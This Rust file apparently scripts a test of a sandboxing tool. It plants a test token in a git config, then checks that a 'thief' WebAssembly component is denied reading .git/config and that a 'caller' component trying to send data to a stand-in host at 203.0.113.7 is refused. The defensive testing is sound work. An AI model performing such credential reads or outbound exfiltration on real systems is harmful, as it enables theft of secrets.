//! Components that steal, run for real: hostile components of the tests, under a policy that allows little. It shows how
//! each is refused, and fails if what they are after stands in anything they leave.

use super::receipts;
use super::stage::{Stage, ends, well};
use anyhow::{Context as _, Result, ensure};
use lockstep_model::digest::Digest;
use std::fs;

/// The hostile components: one that reads whatever it is told, one that calls home.
pub(super) const COMPONENTS: [&str; 2] = ["reach", "sockets"];
/// The credential that a checkout leaves in the repository's own data.
const TOKEN: &str = "dG9rZW4tb2YtdGhlLWpvYg==";

/// Tells it.
pub(super) fn tell(stage: &mut Stage) -> Result<()> {
    let before = stage.shown().len();
    let digest = bring(stage)?;
    stage.say("6. Now a thief. The checkout of a CI job holds a token, and a component from somewhere wants it.");
    let token = format!("AUTHORIZATION: basic {TOKEN}");
    stage.git(&["config", "http.https://git.example.com/.extraheader", &token], well(&[]))?;
    let planted = stage.shown().len();
    let thief = ["../thief.wasm", "--act", "read", "--words"];
    stage.say("Without a policy no component from outside is run.");
    let refused = ["error: a component that is not built in runs only under a policy"];
    stage.lockstep_full(&[&thief[..], &[".git/config"]].concat(), ends(3, &refused))?;
    let policy = format!(
        "version: 1\ncomponents:\n  - digest: {digest}\n    allow:\n      workspace: [\"read envs/**\"]\n"
    );
    fs::write(stage.path("policy.yaml"), &policy)?;
    stage.tell("policy.yaml lets it read manifests:", &policy);
    let policy = ["--policy", "../policy.yaml"];
    stage.lockstep_full(&[&thief[..], &["envs/prod/web.yaml"], &policy].concat(), well(&[READ]))?;
    stage.say("It reaches for the token.");
    let denied = "error: denied: read `.git/config`: it is the repository's own data, out of reach for every step";
    let receipt = ["--receipt", "../receipts/thief.json"];
    stage.lockstep_full(&[&thief[..], &[".git/config"], &policy, &receipt].concat(), ends(3, &[denied]))?;
    stage.say("Another one would call home, and is not even started.");
    let denied = "error: the component imports `wasi:sockets/network@0.2.6`, which no step is given";
    let caller = ["../caller.wasm", "--act", "send", "--words", "203.0.113.7:443", "--policy", "../policy.yaml"];
    stage.lockstep_full(&caller, ends(3, &[denied]))?;
    receipts::show(stage, "thief", "denied")?;
    let leaked = stage.shown()[planted..].iter().find(|shown| shown.output.contains(TOKEN));
    ensure!(leaked.is_none(), "the token was shown: {leaked:?}");
    let _ = before;
    let left = fs::read_to_string(stage.path("receipts/thief.json"))?;
    ensure!(!left.contains(TOKEN), "the token stands in the receipt of the thief");
    Ok(())
}
